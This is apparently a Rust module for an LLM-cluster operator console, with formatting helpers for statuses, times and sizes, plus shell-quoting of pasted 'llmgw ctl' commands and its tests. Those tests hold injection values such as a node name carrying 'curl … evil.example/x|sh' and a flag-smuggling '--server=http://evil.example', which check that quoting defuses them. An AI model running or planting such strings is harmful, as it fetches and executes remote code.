//! The words and numbers operators already know from `llmgw ctl`: statuses,
//! the dash for what was not reported, sizes, ages, and the sentence that
//! sums up an explanation. Pure, and tested here.

use serde::{Deserialize, Serialize};

use crate::admin_api::types::{ExplainView, ModelView, NodeView};

/// What is happening to a model, in the words that decide what to do next.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum ModelStatus {
    /// Nothing wanted, nothing running.
    Stopped,
    /// At or above its minimum.
    Ready,
    /// Replicas exist that are not ready yet: wait.
    Starting,
    /// Below its minimum with nothing coming up: read its explanation.
    NotPlaced,
}

impl ModelStatus {
    pub fn of(m: &ModelView) -> Self {
        if m.min == 0 && m.total == 0 {
            Self::Stopped
        } else if m.min > 0 && m.ready >= m.min {
            Self::Ready
        } else if m.total > m.ready {
            Self::Starting
        } else {
            Self::NotPlaced
        }
    }

    pub fn label(self) -> &'static str {
        match self {
            Self::Stopped => "stopped",
            Self::Ready => "ready",
            Self::Starting => "starting",
            Self::NotPlaced => "not placed",
        }
    }

    /// The label as one word, for `?status=` and CSS classes.
    pub fn slug(self) -> String {
        self.label().replace(' ', "-")
    }

    pub const ALL: [Self; 4] = [Self::Ready, Self::Starting, Self::NotPlaced, Self::Stopped];

    /// Whether `m` is wanted and has fewer replicas ready than its
    /// minimum: not placed, or starting below it (the wall's "models not
    /// serving", but for a replica that is merely slow to start). A model
    /// with no minimum is never missed, whatever runs of it.
    pub fn not_serving(m: &ModelView) -> bool {
        m.min > 0 && m.ready < m.min
    }

    /// Wanted, and no replica of it ready: it does not serve at all (red).
    pub fn down(m: &ModelView) -> bool {
        m.min > 0 && m.ready == 0
    }

    /// Serving, on fewer replicas than wanted (amber).
    pub fn below_wanted(m: &ModelView) -> bool {
        m.ready > 0 && m.ready < m.min
    }
}

/// What an explanation says, told apart in plain words.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Situation {
    PlacedCleanly,
    PlacedWithRejections,
    NotPlaced,
    NotAttempted,
}

impl Situation {
    pub fn of(e: &ExplainView) -> Self {
        match (e.placed, e.rejections.is_empty()) {
            (true, true) => Self::PlacedCleanly,
            (true, false) => Self::PlacedWithRejections,
            (false, false) => Self::NotPlaced,
            (false, true) => Self::NotAttempted,
        }
    }

    pub fn sentence(self) -> &'static str {
        match self {
            Self::PlacedCleanly => "Placed. No candidate was turned down.",
            Self::PlacedWithRejections => {
                "Placed. Some candidates were turned down on the way; they are listed below."
            }
            Self::NotPlaced => {
                "Not placed. Every candidate was turned down, for the reasons below."
            }
            Self::NotAttempted => {
                "Not placed, and no placement has been attempted for it yet: nothing was turned down."
            }
        }
    }
}

/// "Serving" means at least one replica answers, whatever the minimum says.
pub fn is_serving(m: &ModelView) -> bool {
    m.ready > 0
}

/// The dash that stands for "not reported" everywhere, so that an unknown is
/// never mistaken for a zero.
pub const DASH: &str = "-";

pub fn or_dash(s: &str) -> String {
    if s.trim().is_empty() {
        DASH.into()
    } else {
        s.into()
    }
}

pub fn list_or_dash(items: &[String]) -> String {
    if items.is_empty() {
        DASH.into()
    } else {
        items.join(", ")
    }
}

/// Free GPUs out of the node's total.
pub fn gpus(n: &NodeView) -> String {
    format!("{}/{} free", n.gpu_free, n.gpu_total)
}

/// A node's memory. An older agent reports nothing, which is not the same as
/// a small machine, so it reads as a dash rather than "0G".
pub fn memory(gb: i64) -> String {
    if gb <= 0 {
        DASH.into()
    } else {
        format!("{gb}G")
    }
}

/// Free space out of the total it is free of: 8G free is plenty on a small
/// root disk and nearly nothing on a filer, so one without the other misleads.
/// An unknown total reads as a dash, never as a full disk.
pub fn disk(free_gb: i64, total_gb: i64) -> String {
    if total_gb <= 0 {
        DASH.into()
    } else {
        format!("{free_gb}G/{total_gb}G")
    }
}

/// A duration as every page says one: as [`span`] does ("2 h 14 m",
/// "45 s"), one form wherever a duration shows. Negative means not
/// reported (a replica nobody has used yet, or since a router restart): a
/// dash, never a huge number that reads as abandoned.
pub fn duration(sec: i64) -> String {
    if sec < 0 {
        return DASH.into();
    }
    span(sec)
}

/// A duration llmgw gives as Go prints one ("1m30.5s"), in the pages'
/// one form; kept as given if it is not one.
pub fn go_duration(text: &str) -> String {
    match parse_duration(text) {
        Some(sec) => duration(sec),
        None => or_dash(text),
    }
}

/// The UTC date (year, month, day) of `secs` since the Unix epoch
/// (Howard Hinnant's civil-from-days).
pub fn civil_date(secs: i64) -> (i64, i64, i64) {
    let z = secs.div_euclid(86_400) + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    (yoe + era * 400 + i64::from(month <= 2), month, day)
}

/// `secs` since the Unix epoch as RFC 3339 UTC ("2026-11-30T17:04:03Z").
pub fn rfc3339(secs: i64) -> String {
    let (year, month, day) = civil_date(secs);
    let rem = secs.rem_euclid(86_400);
    format!(
        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}Z",
        rem / 3600,
        rem % 3600 / 60,
        rem % 60
    )
}

/// A moment as an operator reads it beside "now", in UTC: "09:12" today,
/// "Tue 02:10" within the week, "2026-11-28 09:12" before.
pub fn moment(at: i64, now: i64) -> String {
    let minutes = at.rem_euclid(86_400) / 60;
    let clock = format!("{:02}:{:02}", minutes / 60, minutes % 60);
    let (day, today) = (at.div_euclid(86_400), now.div_euclid(86_400));
    if day == today {
        format!("{clock} UTC")
    } else if (0..7).contains(&(today - day)) {
        const WEEKDAYS: [&str; 7] = ["Thu", "Fri", "Sat", "Sun", "Mon", "Tue", "Wed"];
        format!("{} {clock} UTC", WEEKDAYS[day.rem_euclid(7) as usize])
    } else {
        let (y, m, d) = civil_date(at);
        format!("{y:04}-{m:02}-{d:02} {clock} UTC")
    }
}

/// A span in the largest two units ("2 h 14 m", "3 d 4 h", "45 s").
pub fn span(sec: i64) -> String {
    let sec = sec.max(0);
    let (d, h, m, s) = (sec / 86_400, sec % 86_400 / 3600, sec % 3600 / 60, sec % 60);
    match (d, h, m) {
        (0, 0, 0) => format!("{s} s"),
        (0, 0, _) => format!("{m} m"),
        (0, _, _) => format!("{h} h {m} m"),
        _ => format!("{d} d {h} h"),
    }
}

/// Time left, to the second under an hour ("4 m 59 s"): what a countdown
/// shows, in the same words as every other duration.
pub fn left(sec: i64) -> String {
    let sec = sec.max(0);
    match sec {
        0..60 => format!("{sec} s"),
        60..3600 => format!("{} m {} s", sec / 60, sec % 60),
        _ => span(sec),
    }
}

/// Since when a state has held, as the journal knows it: "for 2 h 14 m
/// (since 09:12 UTC)", or, where the record starts later than the state,
/// "since at least 10:03 UTC (recorded from then)"; then who made it so
/// through a console and why.
pub fn since(s: &llmgw_journal::record::StateSince) -> String {
    let now = s.checked;
    let mut text = if s.at_least {
        format!("since at least {} (recorded from then)", moment(s.at, now))
    } else {
        format!("for {} (since {})", span(now - s.at), moment(s.at, now))
    };
    by_and_why(s, &mut text);
    text
}

/// [`since`] as a list's cell has room for: "2 h 14 m", "< 1 m", or where
/// the record starts later than the state "≥ 3 d 2 h" ("≥ 40 s"); then
/// who and why.
pub fn since_short(s: &llmgw_journal::record::StateSince) -> String {
    let age = s.checked - s.at;
    let mut text = match (s.at_least, age < 60) {
        (true, _) => format!("≥ {}", span(age)),
        (false, true) => "< 1 m".to_string(),
        (false, false) => span(age),
    };
    by_and_why(s, &mut text);
    text
}

/// Since when a GPU has been unhealthy: "unhealthy for 4 m (since 18:31
/// UTC)", or for one that turned after the record began and is not in it
/// yet "new, not yet dated"; nothing where the journal knows nothing.
pub fn unhealthy_since(date: &llmgw_journal::record::FaultDate) -> Option<String> {
    fault(date, since)
}

/// [`unhealthy_since`] as a wall's line has room for: "unhealthy ≥ 3 d".
pub fn unhealthy_since_short(date: &llmgw_journal::record::FaultDate) -> Option<String> {
    fault(date, since_short)
}

fn fault(
    date: &llmgw_journal::record::FaultDate,
    dated: fn(&llmgw_journal::record::StateSince) -> String,
) -> Option<String> {
    use llmgw_journal::record::FaultDate;
    match date {
        FaultDate::Since(s) => Some(format!("unhealthy {}", dated(s))),
        FaultDate::New => Some(NOT_YET_DATED.to_string()),
        FaultDate::Unknown => None,
    }
}

/// `text` with each absolute path in it cut to its last part
/// (`/var/lib/llmgw-console/journal.sqlite` → `journal.sqlite`): what a
/// page or `/readyz` shows every viewer of an error that names a file,
/// while the log keeps it whole. A path starts a word, or follows a quote,
/// a parenthesis or `=`; it ends at a space, a quote, a parenthesis, a
/// comma or a colon.
pub fn without_paths(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    let mut prev: Option<char> = None;
    while let Some(c) = rest.chars().next() {
        // A file's URL (`sqlite:///srv/…`) too, not a server's
        // (`postgres://host/…`).
        let starts = c == '/'
            && (prev.is_none_or(|p| p.is_whitespace() || "(\"'=`".contains(p))
                || (prev == Some(':') && rest.starts_with("///")));
        if !starts {
            out.push(c);
            prev = Some(c);
            rest = &rest[c.len_utf8()..];
            continue;
        }
        let end = rest
            .find(|ch: char| ch.is_whitespace() || "()\"'`,:".contains(ch))
            .unwrap_or(rest.len());
        let path = &rest[..end];
        match path.rsplit('/').next().filter(|last| !last.is_empty()) {
            Some(last) => out.push_str(last),
            None => out.push('…'),
        }
        prev = path.chars().last();
        rest = &rest[end..];
    }
    out
}

/// What a fault the journal has not dated yet is called.
pub const NOT_YET_DATED: &str = "new, not yet dated";

fn by_and_why(s: &llmgw_journal::record::StateSince, text: &mut String) {
    if let Some(by) = &s.by {
        text.push_str(&format!(", by {by}"));
    }
    if let Some(reason) = &s.reason {
        text.push_str(&format!(": {reason}"));
    }
}

/// Seconds in a duration the server formatted the Go way ("1m30s", "48s",
/// "2h0m0s", "850ms"), so "last seen" sorts by time rather than as text.
pub fn parse_duration(text: &str) -> Option<i64> {
    let text = text.trim();
    if text.is_empty() {
        return None;
    }
    let mut total_ms: i64 = 0;
    let mut number = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c.is_ascii_digit() || c == '.' {
            number.push(c);
            continue;
        }
        let mut unit = c.to_string();
        while let Some(&n) = chars.peek() {
            if n.is_ascii_alphabetic() || n == 'µ' {
                unit.push(n);
                chars.next();
            } else {
                break;
            }
        }
        let value: f64 = number.parse().ok()?;
        number.clear();
        let ms = match unit.as_str() {
            "h" => 3_600_000.0,
            "m" => 60_000.0,
            "s" => 1_000.0,
            "ms" => 1.0,
            "us" | "µs" | "ns" => 0.0,
            _ => return None,
        };
        total_ms += (value * ms) as i64;
    }
    number.is_empty().then_some(total_ms / 1000)
}

/// A file size as someone deciding about deletion reads it. Zero is "size
/// unknown": "0 B" would claim that deleting gains nothing.
pub fn file_size(bytes: i64) -> String {
    const MIB: i64 = 1 << 20;
    const GIB: i64 = 1 << 30;
    if bytes >= GIB {
        format!("{:.1} GB", bytes as f64 / GIB as f64)
    } else if bytes >= MIB {
        format!("{:.0} MB", bytes as f64 / MIB as f64)
    } else if bytes > 0 {
        format!("{bytes} B")
    } else {
        "size unknown".into()
    }
}

/// "1 node", "3 nodes".
pub fn count(n: usize, one: &str, many: &str) -> String {
    format!("{n} {}", if n == 1 { one } else { many })
}

/// An `llmgw ctl` command line, each argument quoted for a POSIX shell
/// where it needs to be: pasted into a terminal, it runs that one command
/// and nothing else, whatever a name holds (`;`, `$( )`, a newline).
pub fn ctl_command(args: &[&str]) -> String {
    let mut line = String::from("llmgw ctl");
    for arg in args {
        line.push(' ');
        line.push_str(&shell_word(arg));
    }
    line
}

/// The same, for the cluster whose admin API is at `server` (as shown:
/// without credentials): which cluster a pasted command acts on is never
/// left to the terminal's defaults. `words` are the command and its flags;
/// `names` (a node's, a model's) follow, after `--` where one begins with
/// a dash, so that a node named `--server=http://elsewhere` is a name and
/// never a flag (`llmgw ctl` reads flags after its arguments too).
pub fn ctl_command_on(server: &str, words: &[&str], names: &[&str]) -> String {
    let server = server.trim_end_matches('/');
    let mut all = Vec::new();
    if !server.is_empty() {
        all.extend(["--server", server]);
    }
    all.extend_from_slice(words);
    if names.iter().any(|n| n.starts_with('-')) {
        all.push("--");
    }
    all.extend_from_slice(names);
    ctl_command(&all)
}

fn shell_word(arg: &str) -> String {
    let plain = !arg.is_empty()
        && arg
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c));
    if plain {
        arg.to_string()
    } else {
        // Inside single quotes nothing is special but the quote itself.
        format!("'{}'", arg.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::admin_api::types::Rejection;

    #[test]
    fn the_four_situations_are_told_apart() {
        let r = vec![Rejection::default()];
        let e = |placed, rejections: Vec<Rejection>| ExplainView {
            model: "m".into(),
            placed,
            rejections,
        };
        assert_eq!(Situation::of(&e(true, vec![])), Situation::PlacedCleanly);
        assert_eq!(
            Situation::of(&e(true, r.clone())),
            Situation::PlacedWithRejections
        );
        assert_eq!(Situation::of(&e(false, r)), Situation::NotPlaced);
        assert_eq!(Situation::of(&e(false, vec![])), Situation::NotAttempted);
    }

    fn model(ready: i64, min: i64, total: i64) -> ModelView {
        ModelView {
            name: "m".into(),
            ready,
            min,
            total,
            ..Default::default()
        }
    }

    #[test]
    fn model_status_in_the_words_that_decide_what_to_do() {
        assert_eq!(ModelStatus::of(&model(0, 0, 0)), ModelStatus::Stopped);
        assert_eq!(ModelStatus::of(&model(2, 2, 2)), ModelStatus::Ready);
        assert_eq!(ModelStatus::of(&model(3, 2, 3)), ModelStatus::Ready);
        assert_eq!(ModelStatus::of(&model(0, 1, 1)), ModelStatus::Starting);
        assert_eq!(ModelStatus::of(&model(1, 2, 2)), ModelStatus::Starting);
        assert_eq!(ModelStatus::of(&model(0, 1, 0)), ModelStatus::NotPlaced);
        assert_eq!(ModelStatus::of(&model(1, 2, 1)), ModelStatus::NotPlaced);
        // Replicas left over after min went to zero are still coming or going.
        assert_eq!(ModelStatus::of(&model(0, 0, 1)), ModelStatus::Starting);
        assert_eq!(ModelStatus::NotPlaced.label(), "not placed");
    }

    #[test]
    fn serving_means_one_ready_replica() {
        assert!(is_serving(&model(1, 2, 2)));
        assert!(!is_serving(&model(0, 1, 1)));
    }

    #[test]
    fn unknowns_are_dashes_never_zeros() {
        assert_eq!(memory(0), "-");
        assert_eq!(memory(-1), "-");
        assert_eq!(memory(512), "512G");
        assert_eq!(disk(0, 0), "-");
        assert_eq!(disk(10, 0), "-");
        assert_eq!(disk(0, 100), "0G/100G");
        assert_eq!(list_or_dash(&[]), "-");
        assert_eq!(list_or_dash(&["a".into(), "b".into()]), "a, b");
        assert_eq!(or_dash(""), "-");
        assert_eq!(or_dash("pool-a"), "pool-a");
    }

    #[test]
    fn a_state_says_since_when_and_never_more_than_the_record_knows() {
        use llmgw_journal::record::StateSince;
        // 2026-12-01 (a Tuesday) 09:12 UTC, and later that day.
        let at = 1_796_116_320;
        assert_eq!(civil_date(at), (2026, 12, 1));
        let mut s = StateSince {
            at,
            at_least: false,
            by: None,
            reason: None,
            checked: at + 2 * 3600 + 14 * 60,
        };
        assert_eq!(since(&s), "for 2 h 14 m (since 09:12 UTC)");
        assert_eq!(moment(at, at + 86_400), "Tue 09:12 UTC");
        assert_eq!(moment(at, at + 30 * 86_400), "2026-12-01 09:12 UTC");
        s.at_least = true;
        s.by = Some("alice".into());
        s.reason = Some("NVLink errors, RMA 4411".into());
        s.checked = at + 3 * 86_400;
        assert_eq!(
            since(&s),
            "since at least Tue 09:12 UTC (recorded from then), by alice: NVLink errors, RMA 4411"
        );
        assert_eq!(span(3 * 86_400 + 5 * 3600 + 7), "3 d 5 h");
        assert_eq!(span(45), "45 s");
        assert_eq!(left(299), "4 m 59 s");
        assert_eq!(left(-3), "0 s");
        assert_eq!(left(7300), "2 h 1 m");
        assert_eq!(
            since_short(&s),
            "≥ 3 d 0 h, by alice: NVLink errors, RMA 4411"
        );
        s.checked = at + 40;
        assert_eq!(since_short(&s).split(',').next(), Some("≥ 40 s"));
        s.at_least = false;
        assert_eq!(since_short(&s).split(',').next(), Some("< 1 m"));
    }

    #[test]
    fn durations_read_one_way_on_every_page() {
        assert_eq!(duration(0), "0 s");
        assert_eq!(duration(45), "45 s");
        assert_eq!(duration(90), "1 m");
        assert_eq!(duration(3600), "1 h 0 m");
        assert_eq!(duration(3723), "1 h 2 m");
        assert_eq!(go_duration("1m30.5s"), "1 m");
        assert_eq!(go_duration(""), "-");
        assert_eq!(go_duration("soon"), "soon");
        // Nothing has reported use yet: a dash, never a huge idle time.
        assert_eq!(duration(-1), "-");
        assert_eq!(duration(i64::MIN), "-");
    }

    #[test]
    fn go_durations_parse_back_to_seconds() {
        assert_eq!(parse_duration("48s"), Some(48));
        assert_eq!(parse_duration("1m30s"), Some(90));
        assert_eq!(parse_duration("2h0m0s"), Some(7200));
        assert_eq!(parse_duration("850ms"), Some(0));
        assert_eq!(parse_duration("1.5s"), Some(1));
        assert_eq!(parse_duration(""), None);
        assert_eq!(parse_duration("soon"), None);
        assert_eq!(parse_duration("12"), None);
    }

    #[test]
    fn file_sizes_in_the_units_a_deletion_is_weighed_in() {
        assert_eq!(file_size(0), "size unknown");
        assert_eq!(file_size(-5), "size unknown");
        assert_eq!(file_size(512), "512 B");
        assert_eq!(file_size((1 << 20) - 1), "1048575 B");
        assert_eq!(file_size(1 << 20), "1 MB");
        assert_eq!(file_size(1536 * (1 << 20)), "1.5 GB");
        assert_eq!(file_size(140 * (1 << 30)), "140.0 GB");
    }

    #[test]
    fn counts_agree_in_number() {
        assert_eq!(count(1, "node", "nodes"), "1 node");
        assert_eq!(count(0, "node", "nodes"), "0 nodes");
    }

    #[test]
    fn a_ctl_command_names_its_cluster() {
        assert_eq!(
            ctl_command_on("https://10.0.0.5:9090/", &["drain"], &["gpu-01"]),
            "llmgw ctl --server https://10.0.0.5:9090 drain gpu-01"
        );
        assert_eq!(
            ctl_command_on("", &["drain"], &["gpu-01"]),
            "llmgw ctl drain gpu-01"
        );
    }

    #[test]
    fn an_error_shown_to_viewers_names_files_not_where_they_are() {
        assert_eq!(
            without_paths("cannot write /var/lib/llmgw-console/journal.sqlite-wal: disk full"),
            "cannot write journal.sqlite-wal: disk full"
        );
        assert_eq!(
            without_paths("open \"/srv/data/journal.sqlite\" (mode=rwc) at /"),
            "open \"journal.sqlite\" (mode=rwc) at …"
        );
        assert_eq!(without_paths("a/b and 3/4 stay"), "a/b and 3/4 stay");
        assert_eq!(without_paths("path=/x/y"), "path=y");
        assert_eq!(
            without_paths("sqlite:///srv/data/journal.sqlite?mode=rwc: unable to open"),
            "sqlite:journal.sqlite?mode=rwc: unable to open"
        );
        assert_eq!(
            without_paths("postgres://db.internal:5432/llmgw: refused"),
            "postgres://db.internal:5432/llmgw: refused"
        );
    }

    #[test]
    fn a_name_that_looks_like_a_flag_is_read_as_a_name() {
        assert_eq!(
            ctl_command_on("http://a:1", &["cordon"], &["--server=http://evil.example"]),
            "llmgw ctl --server http://a:1 cordon -- --server=http://evil.example"
        );
    }

    #[test]
    fn a_ctl_command_runs_only_itself_when_pasted() {
        assert_eq!(
            ctl_command(&["cordon", "gpu-h100-01"]),
            "llmgw ctl cordon gpu-h100-01"
        );
        assert_eq!(
            ctl_command(&["cordon", "gpu-h100-01; curl -s http://evil.example/x|sh"]),
            "llmgw ctl cordon 'gpu-h100-01; curl -s http://evil.example/x|sh'"
        );
        assert_eq!(
            ctl_command(&["cordon", "it's"]),
            r"llmgw ctl cordon 'it'\''s'"
        );
        assert_eq!(ctl_command(&["cordon", "a\nb"]), "llmgw ctl cordon 'a\nb'");
        assert_eq!(ctl_command(&["cordon", ""]), "llmgw ctl cordon ''");
    }
}
